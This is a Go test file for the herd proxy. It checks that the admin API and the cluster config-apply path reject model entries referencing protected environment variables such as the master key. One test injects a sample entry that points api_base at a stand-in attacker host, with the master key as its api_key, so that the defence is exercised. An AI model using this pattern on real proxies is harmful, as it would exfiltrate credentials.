//go:build linux

package main

import (
	"encoding/json"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/herd-proxy/herd/cluster"
	"github.com/herd-proxy/herd/config"
	"github.com/herd-proxy/herd/internal/fakeupstream"
	"github.com/herd-proxy/herd/internal/redistest"
)

// TestAdminEnvProcess: a herd process refuses /model/new bodies naming the master key's
// variable or one its file does not use, and takes one admin_env_allow matches.
func TestAdminEnvProcess(t *testing.T) {
	if testing.Short() {
		t.Skip("starts processes; skipped with -short")
	}
	_, base := fakeupstream.Start(t, fakeupstream.Options{})
	path := filepath.Join(t.TempDir(), "config.yaml")
	cfg := "model_list:\n  - model_name: m\n    litellm_params:\n      model: openai/first\n      api_base: " + base + "/v1\n      api_key: os.environ/UP_KEY\n" +
		"general_settings:\n  master_key: os.environ/LITELLM_MASTER_KEY\ncluster_settings:\n  admin_env_allow: [\"TEAM_*\"]\n"
	if err := os.WriteFile(path, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	env := []string{"LITELLM_MASTER_KEY=sk-admin", "UP_KEY=sk-up", "TEAM_A=sk-team", "DB_PASSWORD=db-secret"}
	n := startProcessEnv(t, "a", env, "--config", path, "--host", "127.0.0.1", "--port", "0", "--gossip-addr", "127.0.0.1:0", "--node-name", "a")
	deadline := time.Now().Add(30 * time.Second)
	for rawClusterStatus(t, n.addr)["config_version"] != 1.0 {
		if time.Now().After(deadline) {
			t.Fatalf("no config version 1: %v", rawClusterStatus(t, n.addr))
		}
		time.Sleep(50 * time.Millisecond) // poll interval
	}
	add := func(id, name string) (int, string) {
		return adminPost(t, n.addr, "/model/new", fmt.Sprintf(`{"model_name":%q,"litellm_params":{"model":"openai/x","api_base":%q,"api_key":"os.environ/%s"},"model_info":{"id":%q}}`,
			id, base+"/v1", name, id))
	}
	for _, name := range []string{"LITELLM_MASTER_KEY", "DB_PASSWORD"} {
		code, body := add("leak-"+name, name)
		if code != 400 || !strings.Contains(body, "os.environ/"+name+" is not allowed in the admin API") || strings.Contains(body, "sk-admin") {
			t.Errorf("/model/new with os.environ/%s: %d %s", name, code, body)
		}
	}
	if code, body := add("team", "TEAM_A"); code != 200 {
		t.Errorf("/model/new with os.environ/TEAM_A (admin_env_allow TEAM_*): %d %s", code, body)
	}
	if ids := strings.Join(modelIDs(t, n.addr), ","); strings.Contains(ids, "leak") || !strings.Contains(ids, "team") {
		t.Errorf("deployments after the admin calls: %s", ids)
	}
}

// TestAdminEnvOnApply: a committed config version that names a variable this node does not
// allow (written by a node with other settings, an older herd, or anyone who got a command
// into raft) is kept as the cluster's state but not served: the node keeps its last good
// config and logs an error naming the variable and the setting.
func TestAdminEnvOnApply(t *testing.T) {
	file := "model_list:\n  - model_name: m\n    litellm_params: {model: openai/m, api_base: https://up.example, api_key: os.environ/UP_KEY}\n" +
		"general_settings:\n  master_key: os.environ/LITELLM_MASTER_KEY\n"
	env := config.MapEnv{"UP_KEY": "sk-up", "LITELLM_MASTER_KEY": "sk-master"}
	static, dyn, err := config.Split([]byte(file))
	if err != nil {
		t.Fatal(err)
	}
	var logs redistest.Buffer
	store := cluster.NewConfigStore(static, dyn, config.NewAdminEnv(env, static, dyn, nil), slog.New(slog.NewTextHandler(&logs, nil)))
	var (
		mu     sync.Mutex
		served []uint64
	)
	store.OnChange(func(_ *config.Config, v uint64) error {
		mu.Lock()
		served = append(served, v)
		mu.Unlock()
		return nil
	})
	apply := func(index, expect uint64, next config.Dynamic) {
		t.Helper()
		cmd, err := json.Marshal(map[string]any{"expect": expect, "next": next})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := store.FSM().Apply(index, cmd); err != nil {
			t.Fatalf("apply %d: %v", index, err)
		}
	}
	apply(1, 0, dyn)
	apply(2, 1, dyn.AddModel(map[string]any{"model_name": "leak", "litellm_params": map[string]any{
		"model": "openai/leak", "api_base": "http://attacker.invalid", "api_key": "os.environ/LITELLM_MASTER_KEY"}}))
	mu.Lock()
	defer mu.Unlock()
	if fmt.Sprint(served) != "[1]" || store.Version() != 2 {
		t.Errorf("served versions %v, state version %d; want [1] and 2", served, store.Version())
	}
	if l := logs.String(); !strings.Contains(l, "cannot be applied on this node") ||
		!strings.Contains(l, "os.environ/LITELLM_MASTER_KEY is not allowed in the admin API") || strings.Contains(l, "sk-master") {
		t.Errorf("log:\n%s", l)
	}
}
